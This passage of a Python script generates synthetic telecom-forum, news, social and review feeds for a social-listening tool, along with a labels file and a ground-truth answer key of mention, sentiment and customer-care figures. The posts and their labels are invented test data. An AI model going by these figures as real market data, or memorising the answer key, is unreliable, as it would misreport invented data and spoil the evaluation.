    return f"{post.title} {plain_text(post.body_html)}".strip()


def _check(posts: list[Post]) -> None:
    """The labels must say what the text says; every post but the duplicate is unique."""
    seen: dict[str, Post] = {}
    for post in posts:
        visible = _visible(post)
        found = brands_in(visible)
        if post.source == "forum-orbis":  # the brand's own forum (see build_posts)
            found = (*found, "orbis")
        if set(found) != set(post.brands):
            raise AssertionError(f"brands {found} != label {post.brands}: {visible!r}")
        key = visible
        if key in seen and post.role != "duplicate":
            raise AssertionError(f"duplicate text: {key!r}")
        seen[key] = post
        if post.when is not None and not (MONTHS[0] <= month_of(post.when) <= MONTHS[-1]):
            raise AssertionError(f"out of period: {post.when}")


# --------------------------------------------------------------------------- identifiers


def assign_ids(posts: list[Post]) -> None:
    """Stable ids and links per source, oldest first, in the style of each kind of site."""
    rng = random.Random(f"{SEED}-ids")
    care_rng = random.Random(f"{SEED}-care-ids")  # the care threads' ids move no other post's
    far_future = datetime(2100, 1, 1, tzinfo=PARIS)
    for key in SOURCES:
        ordered = sorted(
            (p for p in posts if p.source == key),
            key=lambda p: (p.when or far_future, p.author, p.title, p.text),
        )
        counter = {
            "forum-orbis": 18_400,
            "forum-conso": 452_000,
            "news-fr": 88_100,
            "news-en": 5_020,
            "review": 71_300,
        }.get(key, 0)
        care_counter = {"forum-orbis": 24_000, "forum-conso": 470_000, "review": 80_000}.get(key, 0)
        for post in ordered:
            if post.care:
                care_counter += care_rng.randint(1, 37)
                post.num = care_counter
                _assign(post, care_rng)
                continue
            counter += rng.randint(1, 37)
            post.num = counter
            _assign(post, rng)


def _assign(post: Post, rng: random.Random) -> None:
    slug = slugify(post.title or post.text)
    when = post.when
    if post.source == "forum-orbis":
        thread = post.parent if post.parent is not None else post
        post.url = f"https://forum.orbis.example/t/{slugify(thread.title)}/{thread.num}" + (
            f"#post-{post.num}" if post.parent is not None else ""
        )
        post.guid = f"forum-orbis-post-{post.num}"
    elif post.source == "forum-conso":
        thread = post.parent if post.parent is not None else post
        post.url = f"https://forum.consotelecom.example/sujet/{thread.num}-{slugify(thread.title)}"
        if post.parent is not None:
            post.url += f"#msg{post.num}"
        post.guid = f"tag:forum.consotelecom.example,2026:message-{post.num}"
    elif post.source == "blog":
        assert when is not None
        post.url = f"https://blogdesreseaux.example/{when:%Y/%m}/{slug}/"
        post.guid = f"tag:blogdesreseaux.example,2026:/{when:%Y/%m}/{slug}"
    elif post.source == "news-fr":
        assert when is not None
        post.url = f"https://www.actu-telecoms.example/{when:%Y/%m/%d}/{slug}-{post.num}.html"
        post.guid = post.url
    elif post.source == "news-en":
        post.url = f"https://www.telecomwire.example/news/{slug}-{post.num}"
        post.guid = post.url
    elif post.source == "social":
        status = 113_000_000_000_000_000 + rng.randrange(10**15)
        post.url = f"https://piaf.example/@{post.author}/{status}"
        post.guid = post.url
    elif post.source == "reddit" and post.parent is not None:  # a comment's permalink
        base36 = _base36(rng.randrange(36**6, 36**7))
        post.url = f"{post.parent.url}{base36}/"
        post.guid = f"t1_{base36}"
    elif post.source == "reddit":
        base36 = _base36(rng.randrange(36**5, 36**6))
        post.url = f"https://www.rezo.example/r/ForfaitsEtBox/comments/{base36}/{slug[:40]}/"
        post.guid = f"t3_{base36}"
    elif post.source == "review":
        operator = post.brands[0] if post.brands else "divers"
        post.url = f"https://avis-operateurs.example/avis/{operator}/{post.num}"
        post.guid = f"avis-{post.num}"
    elif post.source == "video":
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
        video_id = "".join(rng.choice(alphabet) for _ in range(11))
        post.extra["video_id"] = video_id
        post.extra["channel_id"] = "UC" + slugify(post.author).replace("-", "")[:20].ljust(22, "x")
        post.url = f"https://techtube.example/watch?v={video_id}"
        post.guid = f"yt:video:{video_id}"


def _base36(number: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    out = ""
    while number:
        number, rest = divmod(number, 36)
        out = digits[rest] + out
    return out


# --------------------------------------------------------------------------- XML writers

NS = {
    "atom": "http://www.w3.org/2005/Atom",
    "dc": "http://purl.org/dc/elements/1.1/",
    "content": "http://purl.org/rss/1.0/modules/content/",
    "slash": "http://purl.org/rss/1.0/modules/slash/",
    "thr": "http://purl.org/syndication/thread/1.0",
    "media": "http://search.yahoo.com/mrss/",
    "yt": "http://www.youtube.com/xml/schemas/2015",
    "rev": "https://avis-operateurs.example/ns/avis/1.0",
}


def rfc822(when: datetime) -> str:
    return format_datetime(when)


def rfc3339(when: datetime) -> str:
    return when.isoformat(timespec="seconds")


def social_html(text: str) -> str:
    """Mastodon-style markup: hashtags and mentions become links."""
    out = escape(text)
    out = re.sub(
        r"(?<![\w&])#(\w+)",
        lambda m: (
            f'<a href="https://piaf.example/tags/{slugify(m.group(1))}" class="mention hashtag" '
            f'rel="tag">#<span>{m.group(1)}</span></a>'
        ),
        out,
    )
    out = re.sub(
        r"(?<!\w)@(\w+)",
        lambda m: (
            f'<span class="h-card"><a href="https://piaf.example/@{m.group(1)}" '
            f'class="u-url mention">@<span>{m.group(1)}</span></a></span>'
        ),
        out,
    )
    return f"<p>{out}</p>"


def _sorted(posts: list[Post]) -> list[Post]:
    """Newest first, as feeds are; undated items come first (the site lists them on top)."""

    def key(p: Post) -> tuple[int, float, int]:
        return (0 if p.when is None else 1, -(p.when.timestamp() if p.when else 0), -p.num)

    return sorted(posts, key=key)


def _updated(posts: list[Post]) -> datetime:
    return max(p.when for p in posts if p.when is not None)


def write_rss(source: SourceInfo, posts: list[Post]) -> str:
    namespaces = ["atom", "dc"]
    namespaces += {"forum-orbis": ["content", "slash"], "review": ["rev"]}.get(source.key, [])
    ns = " ".join(f'xmlns:{n}="{NS[n]}"' for n in namespaces)
    language = {"fr": "fr-FR", "en": "en-GB"}[source.language]
    self_link = source.link + ("feed.xml" if source.link.endswith("/") else ".rss")
    lines = [
        '<?xml version="1.0" encoding="utf-8"?>',
        f'<rss version="2.0" {ns}>',
        "  <channel>",
        f"    <title>{escape(source.name)}</title>",
        f"    <link>{escape(source.link)}</link>",
        f"    <description>{escape(source.description)}</description>",
        f"    <language>{language}</language>",
        f"    <lastBuildDate>{rfc822(_updated(posts))}</lastBuildDate>",
        "    <generator>Observatoire demo data</generator>",
        f'    <atom:link href={quoteattr(self_link)} rel="self" type="application/rss+xml"/>',
    ]
    for post in _sorted(posts):
        lines.append("    <item>")
        if post.title:
            lines.append(f"      <title>{escape(post.title)}</title>")
        lines.append(f"      <link>{escape(post.url)}</link>")
        permalink = "true" if post.guid == post.url else "false"
        lines.append(f'      <guid isPermaLink="{permalink}">{escape(post.guid)}</guid>')
        # dc:creator rather than RSS <author>: feedparser truncates "email (Name)" when the
        # e-mail's top-level domain is long, like the reserved .example used here.
        lines.append(f"      <dc:creator>{escape(post.author)}</dc:creator>")
        if post.when is not None:
            lines.append(f"      <pubDate>{rfc822(post.when)}</pubDate>")
        for category in _categories(post):
            lines.append(f"      <category>{escape(category)}</category>")
        if source.key == "forum-orbis":
            excerpt = plain_text(post.body_html).strip()
            excerpt = re.sub(r"\s+", " ", excerpt)
            if len(excerpt) > 140:
                excerpt = excerpt[:139].rsplit(" ", 1)[0] + "…"
            lines.append(f"      <description>{escape(excerpt)}</description>")
            lines.append(f"      <content:encoded><![CDATA[{post.body_html}]]></content:encoded>")
            lines.append(f"      <slash:comments>{post.comments}</slash:comments>")
        elif source.key == "social":
            lines.append(f"      <description>{escape(social_html(post.text))}</description>")
        elif source.key == "review":
            body = post.body_html + f"<p><strong>Note : {post.rating}/5</strong></p>"
            lines.append(f"      <description>{escape(body)}</description>")
            lines.append(f"      <rev:rating>{post.rating}</rev:rating>")
            if post.brands:
                lines.append(
                    f"      <rev:operator>{escape(BRANDS[post.brands[0]].name)}</rev:operator>"
                )
        else:
            lines.append(f"      <description>{escape(post.body_html)}</description>")
        lines.append("    </item>")
    lines += ["  </channel>", "</rss>", ""]
    return "\n".join(lines)


def _categories(post: Post) -> list[str]:
    if post.source == "forum-orbis":
        section = {
            "reseau": "Réseau et couverture",
            "service-client": "Entraide",
            "facturation": "Facturation",
            "offre": "Box et TV",
            "boutique-livraison": "Installation et livraison",
        }
        return [section.get(post.themes[0], "Entraide") if post.themes else "Entraide"]
    if post.source == "social":
        return [t.lstrip("#") for t in re.findall(r"(?<!\w)#\w+", post.text)]
    if post.source in ("news-fr", "news-en"):
        return (
            ["Opérateurs" if post.language == "fr" else "Operators"]
            if post.brands
            else ["Marché" if post.language == "fr" else "Market"]
        )
    return []


def write_atom(source: SourceInfo, posts: list[Post]) -> str:
    extra_ns = {"forum-conso": ["thr"], "video": ["yt", "media"]}.get(source.key, [])
    ns = "".join(f' xmlns:{n}="{NS[n]}"' for n in extra_ns)
    self_link = source.link + ("feed.atom" if source.link.endswith("/") else ".atom")
    lines = [
        '<?xml version="1.0" encoding="utf-8"?>',
        f'<feed xmlns="{NS["atom"]}"{ns} xml:lang="{source.language}">',
        f"  <id>{escape(source.link)}</id>",
        f"  <title>{escape(source.name)}</title>",
        f"  <subtitle>{escape(source.description)}</subtitle>",
        f'  <link rel="alternate" type="text/html" href={quoteattr(source.link)}/>',
        f'  <link rel="self" type="application/atom+xml" href={quoteattr(self_link)}/>',
        f"  <updated>{rfc3339(_updated(posts))}</updated>",
        '  <generator uri="https://observatoire.example.org/">Observatoire demo data</generator>',
    ]
    for post in _sorted(posts):
        assert post.when is not None, "Atom entries need a date"
        lines.append("  <entry>")
        lines.append(f"    <id>{escape(post.guid)}</id>")
        if source.key == "video":
            lines.append(f"    <yt:videoId>{post.extra['video_id']}</yt:videoId>")
            lines.append(f"    <yt:channelId>{post.extra['channel_id']}</yt:channelId>")
        lines.append(f"    <title>{escape(post.title)}</title>")
        lines.append(f'    <link rel="alternate" type="text/html" href={quoteattr(post.url)}/>')
        lines.append("    <author>")
        lines.append(f"      <name>{escape(post.author)}</name>")
        lines.append(f"      <uri>{escape(_author_uri(post))}</uri>")
        lines.append("    </author>")
        lines.append(f"    <published>{rfc3339(post.when)}</published>")
        lines.append(f"    <updated>{rfc3339(post.when)}</updated>")
        if source.key == "forum-conso":
            section = ", ".join(BRANDS[b].name for b in post.brands) or "Discussions générales"
            lines.append(f"    <category term={quoteattr(section)}/>")
            if post.parent is not None:
                lines.append(
                    f"    <thr:in-reply-to ref={quoteattr(post.parent.guid)} "
                    f"href={quoteattr(post.parent.url)}/>"
                )
            else:
                lines.append(
                    f'    <link rel="replies" type="text/html" href={quoteattr(post.url)} '
                    f'thr:count="{post.comments}"/>'
                )
                lines.append(f"    <thr:total>{post.comments}</thr:total>")
        if source.key == "video":
            lines += _media_group(post)
        elif source.key == "reddit":
            body = (
                f'<!-- SC_OFF --><div class="md">{post.body_html}</div><!-- SC_ON -->'
                f' &#32; proposé par &#32; <a href="{_author_uri(post)}">'
                f" u/{escape(post.author)} </a>"
                f' <br/> <span><a href="{post.url}">[{post.comments} commentaires]</a></span>'
            )
            lines.append(f'    <content type="html">{escape(body)}</content>')
        else:
            lines.append(f'    <content type="html">{escape(post.body_html)}</content>')
        lines.append("  </entry>")
    lines += ["</feed>", ""]
    return "\n".join(lines)


def _author_uri(post: Post) -> str:
    user = re.sub(r"[^\w.-]", "_", post.author)
    return {
        "forum-conso": f"https://forum.consotelecom.example/membre/{user}",
        "blog": f"https://blogdesreseaux.example/auteurs/{user}/",
        "reddit": f"https://www.rezo.example/user/{user}",
        "video": f"https://techtube.example/channel/{post.extra.get('channel_id', user)}",
    }[post.source]


def _media_group(post: Post) -> list[str]:
    assert post.stars is not None
    count, average = post.stars
    vid = post.extra["video_id"]
    return [
        "    <media:group>",
        f"      <media:title>{escape(post.title)}</media:title>",
        f'      <media:content url="https://techtube.example/v/{vid}" type="video/mp4" '
        'width="1280" height="720"/>',
        f'      <media:thumbnail url="https://i.techtube.example/vi/{vid}/hqdefault.jpg" '
        'width="480" height="360"/>',
        f"      <media:description>{escape(post.text)}</media:description>",
        "      <media:community>",
        f'        <media:starRating count="{count}" average="{average:.2f}" min="1" max="5"/>',
        f'        <media:statistics views="{post.views}"/>',
        "      </media:community>",
        "    </media:group>",
    ]


def render_feeds(posts: list[Post] | None = None) -> dict[str, str]:
    """File name -> feed text, for every source."""
    if posts is None:
        posts = build_posts()
        assign_ids(posts)
    out = {}
    for key, source in SOURCES.items():
        mine = [p for p in posts if p.source == key]
        writer = write_rss if source.fmt == "rss" else write_atom
        out[source.file] = writer(source, mine)
    return out


def write_feeds(out_dir: str | Path) -> list[Path]:
    """Write every demo feed into `out_dir` (created if needed); returns the paths written."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    written = []
    for name, text in render_feeds().items():
        path = out / name
        path.write_bytes(text.encode("utf-8"))
        written.append(path)
    return written


# --------------------------------------------------------------------------- labels and truth


def render_labels(posts: list[Post]) -> str:
    """One row per post with its intended labels; `text` and `label` (the sentiment) make the
    file usable as is by `observatoire evaluate --labels`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(
        [
            "file",
            "guid",
            "published",
            "month",
            "author",
            "role",
            "brands",
            "language",
            "label",
            "recommends",
            "advises_against",
            "intends_to_leave",
            "sponsored",
            "is_reply",
            "themes",
            "hostile",
            "text",
        ]
    )
    for post in sorted(posts, key=lambda p: (SOURCES[p.source].file, p.num)):
        writer.writerow(
            [
                SOURCES[post.source].file,
                post.guid,
                rfc3339(post.when) if post.when else "",
                month_of(post.when) if post.when else "",
                post.author,
                post.role,
                ";".join(post.brands),
                post.language,
                post.sentiment,
                int(post.recommends),
                int(post.advises_against),
                int(post.intends_to_leave),
                int(post.sponsored),
                int(post.is_reply),
                ";".join(post.themes),
                int(post.hostile),
                re.sub(r"\s+", " ", _visible(post)).strip(),
            ]
        )
    return buffer.getvalue()


def build_truth(posts: list[Post]) -> dict[str, object]:
    dated = [p for p in posts if p.when is not None]
    excluded = cast.EXCLUDED_AUTHOR

    def per_brand_month(selected: list[Post]) -> dict[str, dict[str, int]]:
        counts = Counter((b, month_of(p.when)) for p in selected for b in p.brands if p.when)
        return {b: {m: counts[(b, m)] for m in MONTHS} for b in BRANDS}

    second_copy = max((p for p in posts if p.role == "duplicate"), key=lambda p: p.when)
    kept = [p for p in dated if p.author != excluded and p is not second_copy]
    sentiment = {
        b: {
            m: {
                s: sum(
                    1 for p in dated if b in p.brands and month_of(p.when) == m and p.sentiment == s
                )
                for s in SENTIMENTS
            }
            for m in MONTHS
        }
        for b in BRANDS
    }
    crisis_daily = Counter(
        p.when.date()
        for p in dated
        if CRISIS_BRAND in p.brands and p.sentiment == "negative" and in_crisis(p.when.date())
    )
    daily_negatives = Counter(
        (b, p.when.date())
        for p in dated
        for b in p.brands
        if p.sentiment == "negative" and not in_crisis(p.when.date())
    )
    authors = {}
    for author, spec in cast.RECURRING.items():
        mine = [p for p in posts if p.author == author]
        authors[author] = {
            "brand": spec["brand"],
            "class": spec["klass"],
            "posts": len(mine),
            "months": sorted({month_of(p.when) for p in mine if p.when}),
            "sources": sorted({SOURCES[p.source].file for p in mine}),
            "recommending_posts": sum(p.recommends for p in mine),
            "negative_posts": sum(p.sentiment == "negative" for p in mine),
            "sponsored_posts": sum(p.sponsored for p in mine),
        }
    staff_counts = Counter(p.author for p in posts if p.role == "staff")
    return {
        "generated_by": "python tools/demo/make_feeds.py",
        "seed": SEED,
        "period": {
            "start": "2026-04-01",
            "end": "2026-10-31",
            "timezone": "Europe/Paris",
            "months": list(MONTHS),
        },
        "sector": "telecom",
        "brands": list(BRANDS),
        "totals": {
            "posts": len(posts),
            "dated": len(dated),
            "undated": len(posts) - len(dated),
            "off_topic": sum(not p.brands for p in posts),
            "multi_brand": sum(len(p.brands) > 1 for p in posts),
            "english": sum(p.language == "en" for p in posts),
            "hostile_html": sum(p.hostile for p in posts),
            "replies": sum(p.is_reply for p in posts),
            "unique_authors": len({p.author for p in posts}),
        },
        "sources": {
            s.file: {
                "name": s.name,
                "format": s.fmt,
                "kind": s.kind,
                "language": s.language,
                "posts": sum(p.source == k for p in posts),
                "undated": sum(p.source == k and p.when is None for p in posts),
            }
            for k, s in SOURCES.items()
        },
        "ambassadors": _by_brand("ambassador"),
        "brand_lovers": _by_brand("brand_lover"),
        "influencers": _by_brand("influencer"),
        "detractors": _by_brand("detractor"),
        "converts": {
            "nuvo": [
                {
                    "author": "Thomas_G",
                    "from": "detractor",
                    "to": "ambassador",
                    "negative_until": "2026-06",
                    "month": "2026-08",
                }
            ]
        },
        "staff": {
            b.slug: {"author": b.staff, "posts": staff_counts[b.staff]} for b in BRANDS.values()
        },
        "excluded_authors": {excluded: sum(p.author == excluded for p in posts)},
        "duplicates": [
            {
                "title": cast.DUPLICATE_ARTICLE[0],
                "files": [SOURCES["news-fr"].file, SOURCES["blog"].file],
            }
        ],
        "crisis": {
            "brand": CRISIS_BRAND,
            "month": "2026-08",
            "start": CRISIS_START.isoformat(),
            "end": CRISIS_END.isoformat(),
            "negatives": sum(crisis_daily.values()),
            "daily_negatives": {d.isoformat(): crisis_daily[d] for d in sorted(crisis_daily)},
            "max_daily_negatives_elsewhere": max(daily_negatives.values()),
        },
        "recurring_authors": authors,
        "mentions": per_brand_month(dated),
        "mentions_after_privacy_and_dedup": per_brand_month(kept),
        "earned_mentions": per_brand_month(
            [p for p in kept if not p.sponsored and p.role != "staff"]
        ),
        "sentiment": sentiment,
        "care": care_truth(posts),
    }


# --------------------------------------------------------------------------- care truth

_THANKS = re.compile(r"\bmerci\b|\bca (?:marche|fonctionne)\b|\bresolu\b|\bnickel\b")
_NOT_THANKS = re.compile(r"\bmerci (?:d'avance|de me|pour rien)|\b(?:pas|plus) resolu\b")


def says_thanks(text: str) -> bool:
    """A customer's thanks, as the demo words them ("merci", "ça marche", "nickel")."""
    folded = fold(text)
    return bool(_THANKS.search(folded)) and not _NOT_THANKS.search(folded)


def _month_end(month: str, months_after: int) -> datetime:
    """The first instant after `month` + months_after (Paris)."""
    year, mon = (int(x) for x in month.split("-"))
    mon += months_after + 1
    year, mon = year + (mon - 1) // 12, (mon - 1) % 12 + 1
    return datetime(year, mon, 1, tzinfo=PARIS)


def _quantile(values: list[float], q: float) -> float:
    """Linear interpolation between closest ranks (numpy's and pandas' default)."""
    ordered = sorted(values)
    position = q * (len(ordered) - 1)
    low = int(position)
    high = min(low + 1, len(ordered) - 1)
    return ordered[low] + (ordered[high] - ordered[low]) * (position - low)


def _ratio(numerator: float, denominator: float) -> float | None:
    return numerator / denominator if denominator else None


def care_truth(posts: list[Post]) -> dict[str, dict[str, dict[str, object]]]:
    """The true care KPIs per brand and month (generator/aggregate/care.py's definitions):

    a conversation is a starter (a post that answers none) and the replies below it; it counts
    unless it is on a news source or started by any brand's staff, and only when it has
    replies or its source shows replies (a reply among its posts of M-2..M+1); its month is
    the starter's, and its posts are read up to the end of the next month. A request asks ("?"
    in its text) or is negative. Staff of the brand answer for it; any other named author but
    the customer and the staff of every brand is a peer. A convert: a negative request the
    brand answered, whose author's next post about the brand (or in the thread) after the
    first answer, within 30 days and before the end of the next month, is positive. The
    Orbis community forum is Orbis' own source (observatoire.yml `brand: orbis`); every other
    source is a third party's.
    """
    excluded = cast.EXCLUDED_AUTHOR
    second_copy = max((p for p in posts if p.role == "duplicate"), key=lambda p: p.when)
    kept = [p for p in posts if p.when and p.author != excluded and p is not second_copy]
    staff_of = {b.staff: slug for slug, b in BRANDS.items()}
    own: dict[str, set[str]] = {"orbis": {"forum-orbis"}}  # observatoire.yml `brand:`

    def root(post: Post) -> Post:
        while post.parent is not None:
            post = post.parent
        return post

    def shift(month: str, by: int) -> str:
        year, mon = (int(x) for x in month.split("-"))
        index = year * 12 + mon - 1 + by
        return f"{index // 12:04d}-{index % 12 + 1:02d}"

    # A source shows replies when one of its posts of the window (M-2..M+1) is a reply.
    replying = {(p.source, month_of(p.when)) for p in kept if p.is_reply and p.when}

    def threaded(source: str, month: str) -> bool:
        return any((source, shift(month, by)) in replying for by in (-2, -1, 0, 1))

    threads: dict[int, list[Post]] = {}
    for post in kept:
        threads.setdefault(id(root(post)), []).append(post)
    rows: dict[tuple[str, str], list[dict[str, object]]] = {}
    for members in threads.values():
        starter = root(members[0])
        assert starter.when is not None
        if (
            starter not in members  # its starter was never collected: an orphan
            or SOURCES[starter.source].kind == "news"
            or starter.author in staff_of
        ):
            continue
        month = month_of(starter.when)
        horizon = _month_end(month, CARE_MONTH_CLOSE)
        replies = sorted(
            (p for p in members if p is not starter and p.when and p.when < horizon),
            key=lambda p: p.when,  # type: ignore[arg-type, return-value]
        )
        if not replies and not threaded(starter.source, month):
            continue  # a feed without replies cannot tell an unanswered request
        question = "?" in plain_text(starter.body_html)
        negative = starter.sentiment == "negative"
        for brand in starter.brands:

            def hours(post: Post, start: Post = starter) -> float:  # across a clock change too
                assert post.when is not None and start.when is not None
                elapsed = post.when.astimezone(UTC) - start.when.astimezone(UTC)
                return max(0.0, elapsed.total_seconds() / 3600)

            answers = [p for p in replies if p.author == BRANDS[brand].staff]
            peers = [
                p
                for p in replies
                if p.author not in (starter.author, "") and p.author not in staff_of
            ]
            brand_hours = hours(answers[0]) if answers else None
            peer_hours = hours(peers[0]) if peers else None
            first = min(h for h in (brand_hours, peer_hours, float("inf")) if h is not None)
            thanked = any(
                p.author == starter.author and hours(p) > first and says_thanks(p.text)
                for p in replies
            )
            converted = False
            if negative and answers:
                answered_at = answers[0].when
                assert answered_at is not None
                limit = min(
                    (answered_at.astimezone(UTC) + timedelta(days=CARE_CONVERT_DAYS)), horizon
                )
                later = sorted(
                    (
                        p
                        for p in kept
                        if p.author == starter.author
                        and (brand in p.brands or p in replies)
                        and answered_at < p.when <= limit  # type: ignore[operator]
                    ),
                    key=lambda p: p.when,  # type: ignore[arg-type, return-value]
                )
                converted = bool(later) and later[0].sentiment == "positive"
            rows.setdefault((brand, month), []).append(
                {
                    "question": question,
                    "negative": negative,
                    "request": question or negative,
                    "brand_hours": brand_hours,
                    "peers_first": peer_hours is not None
                    and (brand_hours is None or peer_hours < brand_hours),
                    "answered": brand_hours is not None or peer_hours is not None,
                    "thanked": thanked,
                    "converted": converted,
                    "author": starter.author,
                    "third_party": starter.source not in own.get(brand, set()),
                }
            )
    acknowledge, answer, extended = CARE_TARGETS
    truth: dict[str, dict[str, dict[str, object]]] = {}
    for brand in BRANDS:
        for month in MONTHS:
            found = rows.get((brand, month), [])
            if not found:
                continue
            requests = [r for r in found if r["request"]]
            n = len(requests)
            timed = [float(r["brand_hours"]) for r in requests if r["brand_hours"] is not None]  # type: ignore[arg-type]
            answered = [r for r in requests if r["answered"]]
            detractors = [r for r in requests if r["negative"] and r["brand_hours"] is not None]
            replied = [r for r in found if r["brand_hours"] is not None]
            third = [r for r in requests if r["third_party"]]

            def within(limit: float, timed: list[float] = timed, n: int = n) -> float | None:
                return _ratio(sum(h <= limit for h in timed), n)

            truth.setdefault(brand, {})[month] = {
                "conversations": len(found),
                "questions": sum(bool(r["question"]) for r in found),
                "complaints": sum(bool(r["negative"]) for r in found),
                "requests": n,
                "brand_answered_share": _ratio(len(timed), n),
                "peers_first_share": _ratio(sum(bool(r["peers_first"]) for r in requests), n),
                "unanswered_share": _ratio(n - len(answered), n),
                "reply_median_hours": _quantile(timed, 0.5) if timed else None,
                "reply_p90_hours": _quantile(timed, 0.9) if timed else None,
                "acknowledged_share": within(acknowledge),
                "answered_share": within(answer),
                "answered_extended_share": within(extended),
                "thanked_share": _ratio(sum(bool(r["thanked"]) for r in answered), len(answered)),
                "converts": len({r["author"] for r in detractors if r["converted"]}),
                "detractors_answered": len({r["author"] for r in detractors}),
                "convert_share": _ratio(
                    len({r["author"] for r in detractors if r["converted"]}),
                    len({r["author"] for r in detractors}),
                ),
                "third_party_presence": _ratio(
                    sum(bool(r["third_party"]) for r in replied), len(replied)
                ),
                "third_party_requests": len(third),
                "third_party_answered_share": _ratio(
                    sum(r["brand_hours"] is not None for r in third), len(third)
                ),
            }
    return truth


def _by_brand(klass: str) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for author, spec in cast.RECURRING.items():
        if spec["klass"] == klass:
            out.setdefault(str(spec["brand"]), []).append(author)
    return out


_PLAIN_KEY = re.compile(r"[A-Za-z_][\w.-]*")
_YAML_WORDS = {"true", "false", "yes", "no", "on", "off", "null", "y", "n", "~"}


def _yaml_key(key: object) -> str:
    text = str(key)
    if _PLAIN_KEY.fullmatch(text) and text.lower() not in _YAML_WORDS:
        return text
    return json.dumps(text, ensure_ascii=False)


def _scalar(value: object) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return str(value)
    return json.dumps(str(value), ensure_ascii=False)


def to_yaml(value: object, indent: int = 0) -> str:
    """A tiny YAML emitter (standard library only): strings are JSON-quoted, so never retyped.

    Small mappings and lists of scalars are written inline to keep the truth file readable.
    """
    pad = "  " * indent
    if isinstance(value, dict):
        lines = []
        for key, item in value.items():
            label = f"{pad}{_yaml_key(key)}:"
            inline = _inline(item)
            if inline is not None and len(label) + len(inline) < 100:
                lines.append(f"{label} {inline}")
            elif isinstance(item, dict):
                lines.append(f"{label}\n{to_yaml(item, indent + 1)}")
            else:
                lines.append(f"{label}\n{to_yaml(item, indent + 1)}")
        return "\n".join(lines)
    if isinstance(value, list):
        lines = []
        for item in value:
            inline = _inline(item)
            if inline is not None and not isinstance(item, dict):
                lines.append(f"{pad}- {inline}")
            else:
                lines.append(f"{pad}- {to_yaml(item, indent + 1).lstrip()}")
        return "\n".join(lines)
    return pad + _scalar(value)


def _inline(value: object) -> str | None:
    """Flow style for scalars, and for lists/mappings whose items are all scalars."""
    if isinstance(value, dict):
        if any(isinstance(v, dict | list) for v in value.values()):
            return None
        return "{" + ", ".join(f"{_yaml_key(k)}: {_scalar(v)}" for k, v in value.items()) + "}"
    if isinstance(value, list):
        if any(isinstance(v, dict | list) for v in value):
            return None
        return "[" + ", ".join(_scalar(v) for v in value) + "]"
    return _scalar(value)


def render_truth(posts: list[Post]) -> str:
    header = (
        "# Ground truth of the bundled demo feeds, written by\n"
        "# `python tools/demo/make_feeds.py`: do not edit by hand.\n"
        "# `mentions` counts dated posts per brand and Paris month, every author included;\n"
        "# `mentions_after_privacy_and_dedup` drops the excluded author and the second\n"
        "# copy of the duplicated article; `earned_mentions` also drops sponsored posts and\n"
        "# posts by brand staff (paid and owned). `sentiment` is the intended label.\n"
    )
    return header + to_yaml(build_truth(posts)) + "\n"


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", type=Path, default=FEEDS_DIR, help="feeds directory")
    parser.add_argument("--labels", type=Path, default=LABELS_PATH)
    parser.add_argument("--truth", type=Path, default=TRUTH_PATH)
    args = parser.parse_args(argv)
    posts = build_posts()
    assign_ids(posts)
    args.out.mkdir(parents=True, exist_ok=True)
    for name, text in render_feeds(posts).items():
        (args.out / name).write_bytes(text.encode("utf-8"))
    args.labels.write_bytes(render_labels(posts).encode("utf-8"))
    args.truth.parent.mkdir(parents=True, exist_ok=True)
    args.truth.write_bytes(render_truth(posts).encode("utf-8"))
    print(f"{len(posts)} posts in {len(SOURCES)} feeds -> {args.out}")


if __name__ == "__main__":
    main()
